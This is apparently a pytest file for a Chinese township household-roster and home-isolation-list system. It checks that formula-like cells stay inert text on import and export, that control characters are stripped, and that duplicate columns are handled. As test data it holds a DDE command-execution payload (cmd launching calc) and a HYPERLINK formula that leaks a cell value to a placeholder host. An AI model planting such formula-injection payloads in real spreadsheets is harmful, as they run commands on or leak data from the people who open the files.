"""Cells as hostile or careless files carry them, in and out: nothing runs, nothing stops, nothing is lost.

A cell that starts like a formula comes in as text and goes out as text, so the township's PC never runs it:
the values are written into a roster (门牌号, 备注, 组别, a refused row's name), imported, then exported as the
花名册, the isolation list and the import report, and each workbook is read back with openpyxl, which shows a
formula cell as data type "f". Control characters never stop an export; two columns of one name read the one
that holds the data.
"""

from __future__ import annotations

from datetime import date
from pathlib import Path

from openpyxl import Workbook, load_workbook

from db import quarantine_actions as qa
from db.models import Household, Person, Policy
from db.rules.id_number import check_digit
from forms.excel.issue_report import write_import_report
from forms.isolation_export import export_isolation_list
from forms.roster_export import export_roster
from forms.roster_import import import_roster, plan_import, read_roster

LINK = '=HYPERLINK("http://example.invalid/?d="&J4,"详情")'
DDE = "=cmd|' /C calc'!A0"
OTHERS = ("+1组", "-2号", "@SUM(A1:A2)")


def person_id(seq: int) -> str:
    first = f"4101221970010{seq % 10}00{seq % 10}"
    return first + check_digit(first)


def _formulas(path: Path) -> list[str]:
    book = load_workbook(path)
    return [f"{ws.title}!{c.coordinate}" for ws in book for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _texts(path: Path) -> dict[str, tuple[bool, str]]:
    """Each text cell that starts like a formula → (marked with the quote prefix, value)."""
    book = load_workbook(path)
    return {
        f"{ws.title}!{c.coordinate}": (bool(c.quotePrefix), c.value)
        for ws in book
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))
    }


def test_formulas_in_a_roster_stay_text_everywhere_they_are_written(village, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    wb = Workbook()
    ws = wb.active
    ws.title = "一组"
    ws.append(["姓名", "身份证号", "组别", "门牌号", "备注"])
    ws.append(["王建华", person_id(1), OTHERS[0], LINK, DDE])
    ws.append(["王小华", person_id(2), OTHERS[0], LINK, OTHERS[2]])
    ws.append(["李丽", person_id(3), "一组", OTHERS[1], ""])
    ws.append(["=1+2", person_id(4), "一组", "5号", ""])  # not a name: refused, listed in the report
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"  # text cells, as a clerk's file holds them (typed after a ', or from a csv)
    source = tmp_path / "hostile.xlsx"
    wb.save(source)

    plan = plan_import(read_roster(source))
    report = write_import_report(tmp_path / "report.xlsx", plan.accounted, plan.warnings)
    import_roster(source)
    wang = Person.get(Person.id_number == person_id(1))
    assert (wang.household.door_no, wang.note, wang.household.grid.name) == (LINK, DDE, OTHERS[0])

    roster = tmp_path / "花名册.xlsx"
    export_roster(roster)
    policy = Policy.get(Policy.name == "14天居家隔离医学观察").id
    qa.open_case(
        wang.id, {"policy": policy, "start_date": date(2026, 11, 20), "address": LINK, "reason": "其他", "note": DDE}
    )
    listed = tmp_path / "居家隔离人员名单.xlsx"
    export_isolation_list("home", date(2026, 11, 21), listed, today=date(2026, 11, 21))

    for path in (report, roster, listed):
        assert _formulas(path) == [], path.name
        texts = _texts(path)
        assert texts and all(marked for marked, _value in texts.values()), (path.name, texts)
    assert {LINK, DDE, *OTHERS} <= {value for _m, value in _texts(roster).values()}
    assert DDE in {value for _m, value in _texts(listed).values()}  # 备注 (the address gets the village's name)
    assert "=1+2" in {value for _m, value in _texts(report).values()}

    # and back again: the exported roster imports as the same text, nothing lost to a formula's result
    before = {h.id: h.door_no for h in Household.select()}
    again = import_roster(roster)
    assert again.created_people == 0
    assert {h.id: h.door_no for h in Household.select()} == before
    assert Person.get(Person.id_number == person_id(1)).note == DDE


def test_control_characters_never_stop_an_export_or_a_report(village, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A vertical tab pasted from Word, a NUL from another program: the import keeps the text without them
    (the vertical tab as a line break), and a record that holds one already still exports."""
    from db import changes

    source = tmp_path / "controls.csv"  # (openpyxl itself refuses to write such a workbook)
    source.write_text(f"姓名,身份证号,门牌号,备注\n赵敏,{person_id(5)},8号,独居\x0b低保\x00户\n", encoding="utf-8")
    result = import_roster(source)
    assert result.created_people == 1
    zhao = Person.get(Person.id_number == person_id(5))
    assert zhao.note == "独居\n低保户"
    changes.save(Person, {"note": "旧记录\x0b带控制符\x1f"}, zhao.id)  # as a record saved before this rule
    roster = tmp_path / "花名册.xlsx"
    assert export_roster(roster) >= 1
    notes = {c.value for row in load_workbook(roster).active.iter_rows() for c in row}
    assert "旧记录带控制符" in notes
    plan = plan_import(read_roster(source))
    report = write_import_report(tmp_path / "report.xlsx", plan.accounted, plan.warnings)
    assert load_workbook(report)["汇总"].max_row > 1


def test_two_columns_of_one_name_read_the_one_with_data(village, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """An empty 身份证号 column before the filled one: the ID numbers are read from the filled one, and the
    preview says which column was read."""
    wb = Workbook()
    ws = wb.active
    ws.title = "一组"
    ws.append(["姓名", "身份证号", "门牌号", "身份证号"])
    ws.append(["钱芳", None, "9号", person_id(6)])
    ws.append(["钱明", None, "9号", person_id(7)])
    path = tmp_path / "two_ids.xlsx"
    wb.save(path)
    plan = plan_import(read_roster(path))
    assert any("有几列都叫“身份证号”：按 D 列导入" in note and "B 列未导入" in note for note in plan.notes)
    import_roster(path)
    assert {p.name for p in Person.select().where(Person.id_number.in_([person_id(6), person_id(7)]))} == {
        "钱芳",
        "钱明",
    }
